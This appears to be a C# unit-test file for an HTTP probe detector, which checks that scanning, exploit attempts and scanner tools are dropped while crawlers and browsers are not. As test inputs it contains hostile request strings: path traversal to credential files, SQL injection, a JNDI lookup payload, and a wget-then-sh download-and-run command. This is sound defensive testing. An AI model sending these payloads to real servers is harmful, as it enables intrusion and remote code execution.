using Blackwall.Inspection;
using Blackwall.Pipeline.Board;
using Blackwall.Pipeline.Model;
using Xunit;

namespace Blackwall.Tests.Behavior;

public sealed class HttpProbeTests
{
    private const string Prober = "198.51.100.11";

    [Fact]
    public void Asking_for_several_things_that_no_page_links_to_is_probing_with_application_evidence()
    {
        var traffic = new Traffic();
        foreach (string target in new[] { "/.env", "/.git/config", "/phpmyadmin/", "/server-status" })
        {
            traffic.Wait(0.5).Request(Prober, $"GET {target} HTTP/1.1\r\nHost: a\r\n\r\n");
        }

        DecisionRequest drop = Assert.Single(traffic.Decisions);
        Assert.Equal(Verdict.Drop, drop.Verdict);
        Assert.Equal("http-probe", drop.Reason);
        Assert.Equal(EvidenceClass.Application, drop.Evidence[0].Class);
        Assert.Equal("sent 3 probing requests among 3 distinct targets in 1.0 s", drop.Evidence[0].Detail);
        Assert.Equal(["dpi-rule"], traffic.Recorded.Select(evidence => evidence.Kind).Where(kind => kind is not "phase").Distinct());
    }

    [Theory]
    [InlineData("/a/%2e%2e/%2e%2e/etc/passwd", "/b?x=%252e%252e%252fshadow")]
    [InlineData("/?id=1%20UNION%20SELECT%20password", "/?q=${jndi:ldap://x}")]
    [InlineData("/..\\..\\windows\\win.ini", "/?f=php://input")]
    public void Two_different_exploits_are_enough_however_they_are_encoded(string first, string second)
    {
        var traffic = new Traffic();
        traffic.Request(Prober, $"GET {first} HTTP/1.1\r\n\r\n");
        traffic.Request(Prober, $"GET {second} HTTP/1.1\r\n\r\n");
        Assert.Equal([Verdict.Drop], traffic.Verdicts);
    }

    [Fact]
    public void One_request_that_several_strong_rules_agree_on_is_enough()
    {
        var traffic = new Traffic();
        traffic.Request(Prober, "GET /shell?cd+/tmp;wget+http://192.0.2.1/x;sh+x HTTP/1.1\r\nUser-Agent: Hello, World\r\n\r\n");
        Assert.Equal(["http-probe"], traffic.Decisions.Select(decision => decision.Reason));
    }

    [Fact]
    public void What_decides_is_what_the_operator_wrote_into_the_rules()
    {
        (IReadOnlyList<RequestRule> rules, _) = RequestRuleFile.Parse("own.a target prefix 0.8 /canary/a\nown.b target prefix 0.8 /canary/b", "test");
        var own = new Traffic(inspection: new InspectionOptions { Rules = rules });
        foreach (string target in new[] { "/.env", "/.git/config", "/etc/passwd", "/canary/a" })
        {
            own.Request(Prober, $"GET {target} HTTP/1.1\r\n\r\n");
        }

        Assert.Empty(own.Decisions);
        own.Request(Prober, "GET /canary/b HTTP/1.1\r\n\r\n");
        Assert.Equal(["http-probe"], own.Decisions.Select(decision => decision.Reason));
        var off = new Traffic(inspection: new InspectionOptions { Weight = 0 });
        off.Request(Prober, "GET /../../etc/passwd HTTP/1.1\r\n\r\n");
        off.Request(Prober, "GET /?id=1+union+select+1 HTTP/1.1\r\n\r\n");
        Assert.Empty(off.Decisions);
    }

    [Fact]
    public void Looking_for_what_a_server_has_is_seen_by_what_it_has_not()
    {
        var traffic = new Traffic();
        for (int i = 0; i < 400 && traffic.Decisions.Count == 0; i++)
        {
            traffic.Wait(0.02).Request(Prober, $"GET /word{i} HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n");
            traffic.Answer(Prober, 404);
        }

        DecisionRequest drop = Assert.Single(traffic.Decisions);
        Assert.Equal(("http-probe", Verdict.Drop), (drop.Reason, drop.Verdict));
        Assert.Contains("in vain", drop.Evidence[0].Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void A_crawler_with_old_links_and_a_page_with_broken_pictures_look_for_nothing()
    {
        var traffic = new Traffic();
        for (int i = 0; i < 2000; i++)
        {
            // The site has moved: all links are dead, and the crawler is polite.
            traffic.Wait(1).Request("203.0.113.30", $"GET /old/{i} HTTP/1.1\r\nUser-Agent: Googlebot/2.1\r\n\r\n");
            traffic.Answer("203.0.113.30", 404);
        }

        for (int i = 0; i < 3000; i++)
        {
            // An office behind one address; nine of ten pictures are gone.
            traffic.Wait(0.01).Request("203.0.113.31", $"GET /page{i / 10}/{i} HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n");
            if (i % 10 != 0)
            {
                traffic.Answer("203.0.113.31", 404);
            }
        }

        Assert.Empty(traffic.Decisions);
    }

    [Fact]
    public void The_same_request_repeated_weighs_once()
    {
        var traffic = new Traffic();
        for (int i = 0; i < 100; i++)
        {
            traffic.Wait(0.1).Request(Prober, "GET /.env HTTP/1.1\r\n\r\n");
        }

        Assert.Empty(traffic.Decisions);
    }

    [Fact]
    public void A_tool_that_names_itself_is_found_by_two_requests()
    {
        var traffic = new Traffic();
        traffic.Request(Prober, "GET /a HTTP/1.1\r\nUser-Agent: sqlmap/1.7\r\n\r\n");
        traffic.Request(Prober, "GET /b HTTP/1.1\r\nUser-Agent: sqlmap/1.7\r\n\r\n");
        Assert.Equal([Verdict.Drop], traffic.Verdicts);
    }

    [Fact]
    public void Evidence_never_repeats_what_the_prober_wrote()
    {
        var traffic = new Traffic();
        traffic.Request(Prober, "GET /../../CANARY<script> HTTP/1.1\r\n\r\n");
        traffic.Request(Prober, "GET /../../../CANARY2 HTTP/1.1\r\n\r\n");
        Assert.DoesNotContain("CANARY", Assert.Single(traffic.Decisions).Evidence[0].Detail, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void A_browser_a_crawler_and_an_editor_of_a_blog_are_no_probers()
    {
        var traffic = new Traffic();
        for (int i = 0; i < 400; i++)
        {
            traffic.Wait(0.05).Request("203.0.113.30", $"GET /assets/{i}.js?v=3 HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n");
            traffic.Request("203.0.113.31", $"GET /articles/{i}/some-title HTTP/1.1\r\nUser-Agent: Googlebot/2.1\r\n\r\n");
        }

        foreach (string target in new[] { "/wp-login.php", "/wp-admin/", "/wp-admin/post.php", "/wp-admin/edit.php", "/wp-admin/admin-ajax.php" })
        {
            traffic.Wait(3).Request("203.0.113.32", $"GET {target} HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n");
        }

        Assert.Empty(traffic.Decisions);
        Assert.DoesNotContain(traffic.Recorded, evidence => evidence.Kind is not "dpi-rule" || evidence.Weight > 0.1);
    }
}
